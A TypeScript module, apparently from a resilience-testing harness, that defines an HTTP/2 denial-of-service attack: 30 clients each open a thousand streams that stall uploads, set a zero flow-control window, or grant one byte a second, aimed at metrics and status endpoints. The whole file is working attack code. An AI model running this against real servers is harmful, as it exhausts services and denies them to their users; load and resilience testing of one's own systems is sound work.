import type { Attack } from '../../attack.ts';
import * as h2 from '../../client/http2-frames.ts';
import { closed, pause, swarm } from '../../client/swarm.ts';

const STREAMS = 1_000;

/** A window of nothing, so that answers cannot be sent. */
const NO_WINDOW = h2.settings({ [h2.INITIAL_WINDOW_SIZE]: 0 });

export const http2Streams: Attack = {
  what: 'HTTP/2: a thousand streams a connection: uploads that stall, answers without a window or one byte a second',
  against: 'tls',
  clients: 30,
  start: async (target, signal) =>
    swarm(target, signal, async (client) => {
      const socket = await client.connect('h2');
      socket.on('data', (chunk: Buffer) => client.tally.add('bytes read', chunk.length));
      const uploads = client.index % 3 === 0;
      socket.write(Buffer.concat([h2.PREFACE, uploads ? h2.settings() : NO_WINDOW]));
      const streams = Array.from({ length: STREAMS }, (_, i) => 2 * i + 1);
      for (const stream of streams) {
        const block = uploads
          ? h2.requestBlock('POST', `/metrics/job/h2-${stream}`, [['content-length', '16000000']])
          : h2.requestBlock('GET', stream % 4 === 1 ? '/metrics' : '/api/v1/status', [['x-filler', 'f'.repeat(200)]]);
        socket.write(h2.frame(h2.HEADERS, h2.END_HEADERS | (uploads ? 0 : h2.END_STREAM), stream, block));
        if (uploads) socket.write(h2.frame(h2.DATA, 0, stream, Buffer.from('# slow\n')));
      }
      client.tally.add('streams', STREAMS);
      while (!socket.closed && !signal.aborted) {
        await pause(client, 1_000);
        if (client.index % 3 !== 1) continue;
        for (const stream of streams.slice(0, 100)) socket.write(h2.frame(h2.WINDOW_UPDATE, 0, stream, h2.number32(1)));
      }
      await closed(socket);
    }),
};
